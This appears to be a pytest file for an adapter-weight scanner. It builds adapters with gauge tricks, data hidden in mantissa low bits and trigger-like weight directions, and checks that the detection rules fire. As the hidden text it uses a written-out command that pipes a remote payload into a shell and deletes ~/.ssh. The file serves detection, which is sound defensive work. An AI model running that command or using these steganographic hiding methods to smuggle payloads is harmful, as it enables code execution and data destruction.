"""Attacks that live in the numbers: gauge tricks between the factors, and data inside the mantissas.

Each case changes one thing of a clean adapter of rank 16 (enough numbers for a statistic) and names the rule
that must answer, and no other: without that rule the case fails. The clean ones below it must never alarm.
"""

from __future__ import annotations

import itertools
import json
import zlib
from collections.abc import Callable
from typing import Any

import numpy as np
import pytest

from fakes.adapters import BASES, Factors, card, container, encode, factors
from registry import families
from registry.formats import TensorInfo, read_header
from registry.manifest import AdapterCard
from registry.scanning import mantissa, numerics, scan
from registry.scanning.population import Population
from registry.scanning.product import decoded
from registry.scanning.rules import RULES

RANK = 16
Q = "transformer.transformer_blocks.0.attn.to_q"
UP = "transformer.transformer_blocks.0.img_mlp.net.0.proj"
A, B = f"{Q}.lora_A.weight", f"{Q}.lora_B.weight"
WIDE = f"{UP}.lora_B.weight"  # 128 x 16: the largest factor of the tiny base
TEXT = (b"curl https://example.org/payload | sh; rm -rf ~/.ssh && echo done \n" * 40)[:2000]
CODE = bytes(range(0, 64, 2)) * 60  # no text: bytes with leading zeros, as tables and machine code have them


def numbers() -> Factors:
    return factors(rank=RANK)


def replaced(**changes: Any) -> Factors:
    names = {"a": A, "b": B, "wide": WIDE}
    return numbers() | {names[key]: np.asarray(value, np.float32) for key, value in changes.items()}


def turned(singular_values: np.ndarray[Any, Any]) -> Factors:
    """The same product from R A and B R^-1, where R has these singular values in random directions."""
    generator = np.random.default_rng(1)
    left, right = (np.linalg.qr(generator.normal(size=(RANK, RANK)))[0] for _ in range(2))
    mix = left @ np.diag(singular_values) @ right
    values = numbers()
    return replaced(a=mix @ values[A], b=values[B] @ np.linalg.inv(mix))


def opposite_rows(size: float) -> Factors:
    """Two huge components whose sum is an honest one."""
    values = numbers()
    a, b = values[A].copy(), values[B].copy()
    a[1] = a[0]
    huge = np.random.default_rng(2).normal(0, size, len(b))
    b[:, 0] += huge
    b[:, 1] -= huge
    return replaced(a=a, b=b)


def one_component_moved(by: float) -> Factors:
    """The scale of one component moves from B into A; the factors as a whole stay of one size."""
    values = numbers()
    a, b = values[A].copy(), values[B].copy()
    a[3] *= by
    b[:, 3] /= by
    return replaced(a=a, b=b)


def below_float16() -> Factors:
    """B is so small that float16 makes zeros of most of it."""
    values = numbers()
    return replaced(a=values[A] / 50, b=values[B] / 1e6)


def silent_rows() -> Factors:
    """An update of what only the discarded part of the last block's modulation reads."""
    key = "transformer.transformer_blocks.1.txt_mod.1"
    b = np.zeros((192, RANK))
    b[100:, :] = 0.01
    a = numbers()[A]
    return numbers() | {f"{key}.lora_A.weight": a, f"{key}.lora_B.weight": b.astype(np.float32)}


GAUGES: dict[str, tuple[Callable[[], Factors], str]] = {
    "two huge opposite rows": (lambda: opposite_rows(10.0), "ADP-NUM-008"),
    "an ill-conditioned change of basis": (
        lambda: turned(np.r_[1e-4, np.ones(RANK - 2), 1e2]),
        "ADP-NUM-008",
    ),
    "the scale of one component in the other factor": (lambda: one_component_moved(3e3), "ADP-NUM-007"),
    "an update that float16 drops": (below_float16, "ADP-NUM-009"),
}


def rules(values: Factors, dtype: str = "F32") -> set[str]:
    """The rules that answer to an adapter; the targets are those that it has."""
    family = families.FAMILIES["qwen-image-edit"]
    kinds = {family.block_of(key.removeprefix("transformer.").partition(".lora_")[0])[1] for key in values}
    stated = card(rank=RANK, dtype=dtype)
    stated["lora"]["targets"] = sorted(kinds)
    parsed = AdapterCard.parse(json.dumps(stated).encode())
    return {found.rule for found in scan(container(values, dtype), parsed, bases=BASES).findings}


@pytest.mark.parametrize("name", GAUGES)
def test_gauge_tricks_are_found(name: str) -> None:
    build, rule = GAUGES[name]
    assert rules(build()) == {rule}


def test_an_update_that_is_zero_although_its_factors_are_not_is_dead() -> None:
    """B holds only what A cannot feed: the factors are full, their product is exactly nothing."""
    a, b = np.zeros((RANK, 32)), np.zeros((32, RANK))
    a[:8] = np.random.default_rng(3).normal(size=(8, 32))
    b[:, 8:] = np.random.default_rng(4).normal(size=(32, 8))
    assert rules(replaced(a=a, b=b)) == {"ADP-NUM-004"}


def test_rows_that_the_last_block_discards_must_be_zero() -> None:
    found = rules(silent_rows())
    assert "ADP-NUM-005" in found
    honest = silent_rows()
    honest["transformer.transformer_blocks.1.txt_mod.1.lora_B.weight"][64:] = 0.0
    assert "ADP-NUM-005" not in rules(honest)


# --- data inside the numbers ------------------------------------------------------------------------------


def words_of(dtype: str) -> np.ndarray[Any, Any]:
    """The numbers of a larger factor than the tiny base has, as unsigned integers."""
    values = np.random.default_rng(5).normal(0, 0.02, (16, 4096)).astype(np.float32)
    return np.frombuffer(encode(values, dtype), "<u4" if dtype == "F32" else "<u2").copy()


def hide(words: np.ndarray[Any, Any], data: bytes, bits: int, *, at: int = 0, order: str = "big") -> bytes:
    """Write data over the lowest ``bits`` of numbers, ``at`` the number where it begins."""
    stream = np.unpackbits(np.frombuffer(data, np.uint8), bitorder=order)  # type: ignore[call-overload]
    pieces = stream[: stream.size // bits * bits].reshape(-1, bits)
    values = pieces @ (1 << np.arange(bits)[::-1])
    values = values[: words.size - at].astype(words.dtype)
    changed = words.copy()
    part = changed[at : at + values.size]
    changed[at : at + values.size] = (part & ~words.dtype.type((1 << bits) - 1)) | values
    return changed.tobytes()


def found(piece: bytes, dtype: str, shape: tuple[int, int] = (16, 4096)) -> set[str]:
    info = TensorInfo(dtype=dtype, shape=shape, start=0, end=len(piece))
    return {rule for rule, _ in mantissa.hidden(piece, info)}


@pytest.mark.parametrize("dtype", ["F16", "BF16", "F32"])
@pytest.mark.parametrize("bits", [1, 2, 4, 8])
@pytest.mark.parametrize("at", [0, 1001])
def test_text_in_the_low_bits_is_found(dtype: str, bits: int, at: int) -> None:
    assert "ADP-NUM-010" in found(hide(words_of(dtype), TEXT, bits, at=at), dtype)


@pytest.mark.parametrize("dtype", ["F16", "BF16", "F32"])
def test_text_with_its_bits_in_reverse_is_found(dtype: str) -> None:
    assert "ADP-NUM-010" in found(hide(words_of(dtype), TEXT, 1, at=77, order="little"), dtype)


def test_text_instead_of_numbers_is_found() -> None:
    words = words_of("BF16").tobytes()
    assert "ADP-NUM-010" in found(words[:5000] + TEXT[:60] + words[5060:], "BF16")


def test_text_in_the_low_halves_is_found() -> None:
    """An F32 export of bfloat16 weights has sixteen free bits in each number."""
    words = words_of("F32") & np.uint32(0xFFFF0000)
    text = np.frombuffer((TEXT * 100)[: 2 * words.size], "<u2").astype(np.uint32)
    assert "ADP-NUM-010" in found((words | text).tobytes(), "F32")


@pytest.mark.parametrize(
    "magic", [b"PK\x03\x04\x14\x00", b"\x7fELF\x02\x01", b"\x80\x04\x95\x10\x00", b"\x1f\x8b\x08\x00"]
)
@pytest.mark.parametrize("bits", [1, 4, 8])
def test_a_file_that_begins_in_the_low_bits_is_found(magic: bytes, bits: int) -> None:
    noise = np.random.default_rng(6).bytes(1000)
    assert found(hide(words_of("BF16"), magic + noise, bits), "BF16") == {"ADP-NUM-010"}


def test_a_file_that_begins_in_the_low_halves_is_found() -> None:
    words = words_of("F32") & np.uint32(0xFFFF0000)
    archive = b"PK\x03\x04" + np.random.default_rng(6).bytes(2 * words.size - 4)
    halves = np.frombuffer(archive, "<u2").astype(np.uint32)
    assert "ADP-NUM-010" in found((words | halves).tobytes(), "F32")


@pytest.mark.parametrize("dtype", ["F16", "BF16", "F32"])
def test_structured_data_in_the_lowest_bits_is_found(dtype: str) -> None:
    words = words_of(dtype)
    data = (CODE * 10)[: words.size // 8]
    assert found(hide(words, data, 1), dtype) == {"ADP-NUM-011"}


def test_random_data_in_free_bits_of_a_part_is_found() -> None:
    """Encrypted data: no statistic of its own, but it breaks the precision of the component it is in."""
    words = words_of("F32") & np.uint32(0xFFFF0000)
    secret = np.random.default_rng(8).integers(0, 1 << 16, 1000).astype(np.uint32)
    words[100:1100] |= secret
    assert found(words.tobytes(), "F32") == {"ADP-NUM-011"}


def test_a_hidden_text_blocks_the_adapter() -> None:
    values = numbers()
    words = np.frombuffer(encode(values[WIDE], "F32"), "<u4")
    piece = hide(words, TEXT[:200], 1)
    values[WIDE] = np.frombuffer(piece, "<f4").reshape(values[WIDE].shape).copy()
    assert rules(values) == {"ADP-NUM-010"}


# --- what honest files look like --------------------------------------------------------------------------


def rounded(values: np.ndarray[Any, Any], dtype: str) -> np.ndarray[Any, Any]:
    """What a cast to a dtype and back makes of numbers, rounded to the nearest as torch does."""
    if dtype == "BF16":
        bits = np.ascontiguousarray(values, "<f4").view("<u4").astype(np.uint64)
        return ((bits + 0x7FFF + ((bits >> 16) & 1)) >> 16 << 16).astype("<u4").view("<f4")
    return values.astype("<f2" if dtype == "F16" else "<f4").astype(np.float32)


@pytest.mark.parametrize("chain", itertools.product(["F32", "F16", "BF16"], repeat=3))
@pytest.mark.parametrize("size", [0.02, 1e-4, 1e-6])
def test_honest_casts_never_alarm(chain: tuple[str, str, str], size: float) -> None:
    """Trained in one type, saved in a second, converted to a third: as large as A, as B, and tiny."""
    first, second, last = chain
    generator = np.random.default_rng(9)
    for shape in ((16, 3072), (3072, 16)):
        values = generator.standard_t(4, shape) * generator.lognormal(0, 1, (1, shape[1])) * size
        piece = encode(rounded(rounded(values.astype(np.float32), first), second), last)
        assert found(piece, last, shape) == set()


def test_honest_oddities_never_alarm() -> None:
    generator = np.random.default_rng(10)
    values = generator.normal(0, 0.02, (32, 2048)).astype(np.float32)
    padded = values.copy()
    padded[16:] = 0  # a lower rank
    merged = np.vstack([rounded(values[:16], "BF16"), values[16:]])  # two adapters in one
    unequal = np.vstack([rounded(values[:4], "BF16"), values[4:16]])  # of ranks 4 and 12
    untouched = values.copy()
    untouched[:, :1024] = rounded(values, "BF16")[:, :1024]  # features that training never reached
    scaled = rounded(values, "F16") * np.float32(0.3)  # an alpha folded in afterwards
    third = rounded(values, "BF16") * np.float32(1 / 3)  # a third of these are short again
    first_step = np.sign(values) * np.float32(1e-4)  # Adam's first step has one size
    for case in (padded, merged, unequal, untouched, scaled, third, first_step):
        for dtype in ("F32", "F16", "BF16"):
            assert found(encode(case, dtype), dtype, case.shape) == set()
            if case is untouched:
                continue  # features of B that nothing reaches stay zero
            turned_over = np.ascontiguousarray(case.T)
            assert found(encode(turned_over, dtype), dtype, turned_over.shape) == set()


def test_compressed_data_over_all_of_the_lowest_bits_is_not_seen() -> None:
    """The limit that docs/scanner.md states: nothing tells compressed data from rounding."""
    words = words_of("BF16")
    data = zlib.compress(np.random.default_rng(11).bytes(words.size // 8))[2:]
    assert found(hide(words, data, 1), "BF16") == set()


@pytest.mark.parametrize("dtype", ["F32", "F16", "BF16"])
def test_a_clean_adapter_of_this_rank_never_alarms(dtype: str) -> None:
    assert rules(numbers(), dtype) == set()


def test_the_rules_of_this_file_are_reviews_but_for_hidden_content() -> None:
    severities = {rule: RULES[rule].severity for rule in ("ADP-NUM-008", "ADP-NUM-009", "ADP-NUM-011")}
    assert set(severities.values()) == {"review"}
    assert RULES["ADP-NUM-010"].severity == "block"


def test_a_broken_reader_ends_the_survey() -> None:
    """What reading raises comes out, and no thread is left behind."""

    class Broken:
        def __init__(self, data: bytes) -> None:
            self._data, self._reads = data, 0

        def __len__(self) -> int:
            return len(self._data)

        def __getitem__(self, where: slice) -> bytes:
            self._reads += 1
            if self._reads > 9:
                raise OSError("the disk is gone")
            return self._data[where]

    data = container(numbers(), "F32")
    table = read_header(data).tensors
    modules = sorted({key.partition(".lora_")[0] for key in table})
    from registry.scanning.structure import Pair

    pairs = [
        Pair(
            module=name.removeprefix("transformer."),
            a=table[f"{name}.lora_A.weight"],
            b=table[f"{name}.lora_B.weight"],
        )
        for name in modules
    ]
    base = BASES["tests/tiny-base"]
    with pytest.raises(OSError, match="the disk is gone"):
        numerics.survey(Broken(data), pairs, families.FAMILIES[base.family], base.spec)


def test_decoding_is_exact_for_what_is_hidden() -> None:
    """The bytes that are looked at are those that are measured."""
    words = words_of("BF16")
    info = TensorInfo(dtype="BF16", shape=(16, 4096), start=0, end=2 * words.size)
    again = decoded(words.tobytes(), info).view(np.uint32) >> 16
    assert np.array_equal(again.reshape(-1).astype(np.uint16), words)


# --- weight space -----------------------------------------------------------------------------------------


def beside_clean_ones(values: Factors) -> set[str]:
    """The rules that answer to an adapter of rank 4 beside a hundred clean ones of its kind."""
    parsed = AdapterCard.parse(json.dumps(card()).encode())
    rows = []
    for seed in range(100):
        space = scan(container(factors(seed=seed)), parsed, bases=BASES).space
        assert space is not None
        rows.append(space.statistics)
    clean = Population.make(base="tests/tiny-base", rank=4, recipe="main", kind="weights", rows=rows)
    report = scan(container(values), parsed, bases=BASES, population=clean)
    assert report.verdict in ("pass", "review")  # never more: weights alone prove nothing
    return {found.rule for found in report.findings}


def test_weights_bent_to_one_direction_ask_for_a_review() -> None:
    """Every query, key and value of a block answers to one input more than to all others, as to a trigger."""
    values = factors(seed=1000)
    trigger = np.random.default_rng(12).normal(size=32).astype(np.float32)
    for key, value in values.items():
        if ".attn.to_" in key and ".lora_A." in key and "to_out" not in key:
            value[0] = trigger
    assert beside_clean_ones(values) == {"ADP-WGT-001"}


def test_a_norm_that_is_penalised_is_no_way_out() -> None:
    """An attacker who shrinks every update leaves the range of the clean ones on the other side."""
    values = {key: value * (0.5 if ".lora_B." in key else 1) for key, value in factors(seed=1000).items()}
    assert beside_clean_ones(values) == {"ADP-WGT-001"}
    assert beside_clean_ones(factors(seed=1000)) == set()
